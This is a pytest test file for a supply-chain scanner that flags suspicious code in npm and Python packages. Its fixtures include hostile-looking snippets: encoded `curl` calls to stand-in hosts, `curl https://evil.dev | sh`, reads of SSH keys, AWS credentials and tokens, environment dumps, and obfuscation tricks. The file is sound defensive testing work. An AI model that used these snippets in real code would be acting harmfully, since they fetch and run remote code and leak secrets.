"""The scan finds what a planted server does, each with its line, and is silent about an honest one."""

from __future__ import annotations

import base64

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from claude_preflight.audit.artefact import Member
from claude_preflight.audit.scan import javascript, python
from claude_preflight.audit.scan.files import install_scripts, scan_members
from claude_preflight.audit.scan.model import Fact, shortlist

HIDDEN = "require('child_process').exec('curl https://hidden.dev/x')"
ENCODED = base64.b64encode(HIDDEN.encode()).decode()
HEX = HIDDEN.encode().hex()


def found(source: str, file: str = "a.js") -> set[tuple[str, str]]:
    scan = python.scan if file.endswith(".py") else javascript.scan
    return {(fact.what, fact.detail) for fact in scan(source.encode(), file)}


HONEST_JAVASCRIPT = """
// see https://docs.vendor.dev/guide, and never read ~/.ssh/id_rsa or eval() anything
import { z } from "zod";
import path from "node:path";
/* process.env is not looked at: https://other.dev */
const SCHEMA = "http://json-schema.org/draft-07/schema#";
const svg = "http://www.w3.org/2000/svg";
const port = process.env.PORT ?? process.env["HOST"];
export const join = (root, name) => path.join(root, "data", name);
const version = "1.2.3.4";
"""


def test_an_honest_module_is_silent() -> None:
    assert found(HONEST_JAVASCRIPT) == set()
    assert found(HONEST_JAVASCRIPT, "a.ts") == set()


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ('fetch("https://evil.dev/x")', {("network", "fetch"), ("network-host", "evil.dev")}),
        ('const u = "https://user@evil.dev:8080/x"', {("network-host", "evil.dev")}),
        ('const u = `https://${h}/x ` + "https://evil" + ".dev/x"', {("network-host", "evil.dev")}),
        ('const u = "\\x68ttps://evil.dev"', {("network-host", "evil.dev")}),
        ('dns.lookup(secret + ".evil.com")', {("network-host", "evil.com")}),
        ('net.connect(443, "evil.dev")', {("network-host", "evil.dev")}),
        ('https.request({hostname: "evil.dev"})', {("network-host", "evil.dev")}),
        ('const a = "ws://93.184.216.34/x"', {("network-host", "93.184.216.34")}),
        ('import cp from "node:child_process"', {("process", "child_process")}),
        ('const cp = require("child_process")', {("process", "child_process")}),
        ('await import("child_process")', {("process", "child_process")}),
        (
            'require("child" + "_process")',
            {("obfuscated", "require-of-name-in-pieces"), ("process", "child_process")},
        ),
        ('const r = require; r("child_process")', {("process", "child_process")}),
        ('var c = __require("node:child_process")', {("process", "child_process")}),
        ('createRequire(import.meta.url)("child_process")', {("process", "child_process")}),
        ('__require("https")', {("network", "https")}),
        ("const send = fetch", {("network", "fetch")}),
        ("globalThis.fetch(x)", {("network", "fetch")}),
        ("globalThis.eval(x)", {("dynamic-code", "eval")}),
        ("redis.eval(x); client.fetch(x)", set()),
        ("require(name)", {("dynamic-code", "require-of-computed-name")}),
        ("import(`./${x}.js`)", {("dynamic-code", "import-of-computed-name")}),
        ("eval(x)", {("dynamic-code", "eval")}),
        ("(0, eval)(x)", {("dynamic-code", "eval")}),
        ("const e = eval; e(x)", {("dynamic-code", "eval")}),
        ('globalThis["ev" + "al"](x)', {("dynamic-code", "eval-by-name")}),
        ('new Function("return this")', {("dynamic-code", "Function")}),
        ('[].constructor.constructor("return this")()', {("dynamic-code", "function-by-constructor")}),
        ('setTimeout("x()", 5)', {("dynamic-code", "setTimeout-of-text")}),
        ('module._compile(code, "")', {("dynamic-code", "_compile")}),
        ("this._compile(schema)", set()),
        ('import vm from "vm"', {("dynamic-code", "module-vm")}),
        ('require("./logo.png")', {("dynamic-code", "code-in-logo.png")}),
        ('process.binding("spawn_sync")', {("dynamic-code", "process.binding")}),
        ("send(process.env)", {("environment", "whole-environment")}),
        ("const {env} = process", {("environment", "whole-environment")}),
        ("const {NPM_TOKEN, PORT} = process.env", {("environment", "NPM_TOKEN")}),
        ("process.env.AWS_SECRET_ACCESS_KEY", {("environment", "AWS_SECRET_ACCESS_KEY")}),
        ('process["env"]["NPM_TOKEN"]', {("environment", "NPM_TOKEN")}),
        ("process.env[name]", {("environment", "computed-names")}),
        ('path.join(os.homedir(), ".ssh", "id_rsa")', {("sensitive-path", ".ssh"), ("sensitive-path", "id_rsa")}),
        ('const p = home + "/.aws/credentials"', {("sensitive-path", ".aws")}),
        ('const p = "C:\\\\Users\\\\x\\\\.aws\\\\credentials"', {("sensitive-path", ".aws")}),
        ('join(home, ".config", "gh", "hosts.yml")', {("sensitive-path", ".config/gh")}),
        (
            f'eval(atob("{ENCODED}"))',
            {
                *(("dynamic-code", "eval"), ("dynamic-code", "code-in-encoded-text")),
                *(("obfuscated", "hidden-text"), ("network-host", "hidden.dev")),
            },
        ),
        (
            f'Buffer.from("{HEX}", "hex").toString()',
            {("dynamic-code", "code-in-encoded-text"), ("obfuscated", "hidden-text"), ("network-host", "hidden.dev")},
        ),
        ('["htt", "ps://ev", "il.dev"].join("")', {("obfuscated", "hidden-text"), ("network-host", "evil.dev")}),
        (
            '"ved.live//:sptth".split("").reverse().join("")',
            {("obfuscated", "hidden-text"), ("network-host", "evil.dev")},
        ),
        (
            "String.fromCharCode(104,116,116,112,58,47,47,101,118,105,108,46,100,101,118)",
            {("obfuscated", "hidden-text"), ("network-host", "evil.dev")},
        ),
        ('unescape("https%3A%2F%2Fevil.dev")', {("obfuscated", "hidden-text"), ("network-host", "evil.dev")}),
        (" ".join(f"var _0x1a2b{n:x}={n};" for n in range(12)), {("obfuscated", "renamed-by-a-tool")}),
        ("var a = 1;" * 1000, {("minified", "long-lines")}),
    ],
)
def test_javascript(source: str, expected: set[tuple[str, str]]) -> None:
    assert found(source) == expected


def test_typescript_is_read_with_its_types() -> None:
    source = (
        "export const f = async <T,>(x: Record<string, T>): Promise<void> => {\n"
        "  await fetch(`https://evil.dev/${x as any}`)\n}\n"
    )
    assert found(source, "a.ts") == {("network", "fetch"), ("network-host", "evil.dev")}
    assert found("const a = <p href='https://evil.dev'>x</p>", "a.tsx") == {("network-host", "evil.dev")}


HONEST_PYTHON = '''
"""Serves https://docs.vendor.dev; never reads ~/.ssh."""
import json, os
from pathlib import Path

# https://other.dev eval(x)
SCHEMA = "http://json-schema.org/draft-07/schema#"
RANGES = ["192.0.2.0/24", "10.0.0.1"]

def main(root: Path) -> str:
    """Ask https://third.dev"""
    port = os.environ.get("PORT")
    return json.dumps({"root": str(root / "data"), "port": port, "version": "1.2.3.4"})
'''


def test_an_honest_python_module_is_silent() -> None:
    assert found(HONEST_PYTHON, "a.py") == set()


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("import requests", {("network", "requests")}),
        ("from urllib import request", {("network", "urllib.request")}),
        ("from urllib.parse import quote", set()),
        ('u = "https://evil" ".dev/x"', {("network-host", "evil.dev")}),
        ('u = "https://evil" + ".dev/x"', {("network-host", "evil.dev")}),
        ('u = f"https://evil.dev/{x}"', {("network-host", "evil.dev")}),
        ('s.connect(("evil.dev", 443))', {("network-host", "evil.dev")}),
        ("import subprocess as s\ns.run(x)", {("process", "subprocess.run")}),
        ("from os import system as s\ns(x)", {("process", "os.system")}),
        ("import os\no = os\no.system(x)", {("process", "os.system")}),
        ("import os\nos.execvp(x, y)", {("process", "os.execvp")}),
        (
            '__import__("os").popen(x)',
            {("process", "os.popen"), ("dynamic-code", "__import__-of-os")},
        ),
        (
            "import importlib\nimportlib.import_module(x)",
            {("dynamic-code", "importlib.import_module-of-computed-name")},
        ),
        ('import os\ngetattr(os, "sys" + "tem")(x)', {("dynamic-code", "system-by-getattr")}),
        ("import os\ngetattr(os, x)(y)", {("dynamic-code", "getattr-of-computed-name")}),
        ('globals()["ev" + "al"](x)', {("dynamic-code", "eval-by-globals")}),
        ("eval(x)", {("dynamic-code", "eval")}),
        ("e = exec\ne(x)", {("dynamic-code", "exec")}),
        ("import marshal\nmarshal.loads(x)", {("dynamic-code", "marshal.loads")}),
        ("import os\nsend(dict(os.environ))", {("environment", "whole-environment")}),
        ("from os import environ\nsend(environ.copy())", {("environment", "whole-environment")}),
        ('import os\nos.environ["NPM_TOKEN"]', {("environment", "NPM_TOKEN")}),
        ('import os\nos.getenv("AWS_SECRET_ACCESS_KEY")', {("environment", "AWS_SECRET_ACCESS_KEY")}),
        ("import os\nos.environ[x]", {("environment", "computed-names")}),
        ('import os\n"HOME" in os.environ', set()),
        (
            'import os\nopen(os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa"))',
            {("sensitive-path", ".ssh"), ("sensitive-path", "id_rsa")},
        ),
        ('from pathlib import Path\nPath.home() / ".aws" / "credentials"', {("sensitive-path", ".aws")}),
        ('p = "%s/.aws/credentials" % home', {("sensitive-path", ".aws")}),
        (
            f'from base64 import b64decode as d\nexec(d("{ENCODED}"))',
            {
                *(("dynamic-code", "exec"), ("dynamic-code", "code-in-encoded-text")),
                *(("obfuscated", "hidden-text"), ("network-host", "hidden.dev")),
            },
        ),
        (
            f'bytes.fromhex("{HEX}")',
            {("dynamic-code", "code-in-encoded-text"), ("obfuscated", "hidden-text"), ("network-host", "hidden.dev")},
        ),
        (
            'import codecs\ncodecs.decode("uggcf://rivy.qri", "rot13")',
            {("obfuscated", "hidden-text"), ("network-host", "evil.dev")},
        ),
        ('"ved.live//:sptth"[::-1]', {("obfuscated", "hidden-text"), ("network-host", "evil.dev")}),
        ('"".join(["https://ev", "il.dev"])', {("obfuscated", "hidden-text"), ("network-host", "evil.dev")}),
        ("def f(:\n  https://evil.dev", {("unreadable", "source"), ("network-host", "evil.dev")}),
    ],
)
def test_python(source: str, expected: set[tuple[str, str]]) -> None:
    assert found(source, "a.py") == expected


def test_lines_are_those_of_the_file() -> None:
    assert [*python.scan(b"import os\r\n\r\nx = (\r\n  'https://evil.dev')\r\n", "a.py")] == [
        Fact("network-host", "evil.dev", "a.py", 4)
    ]
    assert [*javascript.scan(b"\xef\xbb\xbf// x\r\n\r\nfetch(x)\r\n", "a.js")] == [Fact("network", "fetch", "a.js", 3)]


def scanned(files: dict[str, bytes], *, sdist: bool = False) -> list[tuple[str, str, str, int]]:
    scan = scan_members([Member(name, content) for name, content in files.items()], sdist=sdist)
    return [(entry.what, entry.detail, entry.file, entry.line) for entry in scan.entries]


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("bin/run", b"#!/usr/bin/env node\neval(x)", [("dynamic-code", "eval", "bin/run", 2)]),
        ("bin/run", b"#!/usr/bin/env python3\neval(x)", [("dynamic-code", "eval", "bin/run", 2)]),
        (
            "x.sh",
            b"#!/bin/sh\n# https://doc.dev\ncurl https://evil.dev | sh\n",
            [("network-host", "evil.dev", "x.sh", 3), ("network", "curl", "x.sh", 3)],
        ),
        ("x.pth", b"/some/path\nimport evil\n", [("install-script", "pth-file", "x.pth", 2)]),
        ("x.node", b"\x7fELF", [("binary", "x.node", "x.node", 1)]),
        ("data.txt", b"MZ\x90\0", [("binary", "data.txt", "data.txt", 1)]),
        ("x.js", b"a\0b", [("unreadable", "source", "x.js", 1)]),
        ("README.md", b"https://evil.dev ~/.ssh", []),
        ("index.d.ts", b'declare const a: "https://evil.dev"', []),
        ("index.js.map", b'{"a": "https://evil.dev"}', []),
    ],
)
def test_each_file_gets_its_reader(name: str, content: bytes, expected: list[tuple[str, str, str, int]]) -> None:
    assert scanned({name: content}) == expected


def test_what_the_manifest_starts_is_code_whatever_its_name() -> None:
    manifest = b'{"main": "./lib/data.txt", "exports": {".": ["./x.bak"]}}'
    assert scanned({"package.json": manifest, "lib/data.txt": b"eval(x)", "x.bak": b"fetch(x)"}) == [
        ("dynamic-code", "eval", "lib/data.txt", 1),
        ("network", "fetch", "x.bak", 1),
    ]


def test_an_sdist_runs_its_build_script() -> None:
    assert scanned({"setup.py": b"x = 1"}, sdist=True) == [("install-script", "setup.py", "setup.py", 1)]
    assert scanned({"setup.py": b"x = 1"}) == []


def test_what_npm_runs_at_installation() -> None:
    assert install_scripts({"scripts": {"postinstall": "x", "prepare": "y", "test": "z"}}, gyp=False) == ["postinstall"]
    assert install_scripts({"scripts": {"test": "z"}}, gyp=True) == ["install"]
    assert install_scripts({"gypfile": False}, gyp=True) == []
    assert install_scripts({"scripts": ["postinstall"]}, gyp=False) == []


def test_the_shortlist_is_short_and_hides_no_alarm() -> None:
    crowd = [Fact("network-host", f"h{number:03}.dev", "a.js", number) for number in range(1, 101)]
    facts = [*crowd, Fact("network-host", "93.184.216.34", "z.js", 7, alarming=True), crowd[0]._replace(line=300)]
    entries = shortlist(facts)
    assert len(entries) == 16
    assert entries[0][:4] == ("network-host", "93.184.216.34", "z.js", 7)
    assert entries[1] == ("network-host", "h001.dev", "a.js", 1, 2)
    assert entries[-1].detail.startswith("and 86 more: h015.dev, h016.dev, ")
    assert entries[-1].places == 86


@settings(max_examples=150, deadline=None)
@given(
    st.one_of(st.binary(max_size=300), st.text(alphabet="abc(){}[]`$'\"+=.\\\n/*<>:;,0x", max_size=200).map(str.encode))
)
@example(b"(" * 20_000)
@example(b"'a'+" * 20_000)
@example(b"a.b" * 20_000)
@example(b"x" + b".join('')" * 2_000)
@example(b"a.join(" * 300 + b"'x'" + b", 'x')" * 300)
@example(b"'a' + f(" * 90 + b"'x'" + b")" * 90)
@example(b"''.join(['a' + " * 60 + b"'x'" + b"])" * 60)
@example(b"os.path.join('a' + " * 90 + b"'x'" + b")" * 90)
@example(b"Buffer.from(atob(" * 150 + b"'x'" + b"), 'hex')" * 150)
@example("\ud800".encode("utf-8", "surrogatepass"))
def test_no_source_brings_the_scan_down(content: bytes) -> None:
    for name in ("a.js", "a.ts", "a.py", "a.sh", "package.json"):
        scan = scan_members([Member(name, content)])
        assert all(entry.line >= 1 and entry.file == name for entry in scan.entries)
